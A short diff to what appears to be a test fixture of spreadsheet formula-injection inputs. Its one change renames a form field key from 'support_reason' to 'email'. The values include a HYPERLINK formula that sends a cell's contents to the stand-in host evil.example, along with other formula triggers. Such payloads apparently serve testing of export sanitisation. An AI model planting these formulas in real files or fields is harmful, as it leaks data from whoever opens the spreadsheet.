@@ -18,7 +18,7 @@ ATTACKS = {
     "name": '=HYPERLINK("http://evil.example/?d="&B4,"詳細")',
     "address": "+81-3-0000-0000 東京都",
     "phone": "-1+1",
-    "support_reason": "@SUM(A1)",
+    "email": "@SUM(A1)",
     "name_kana": "\t=1",
 }
 
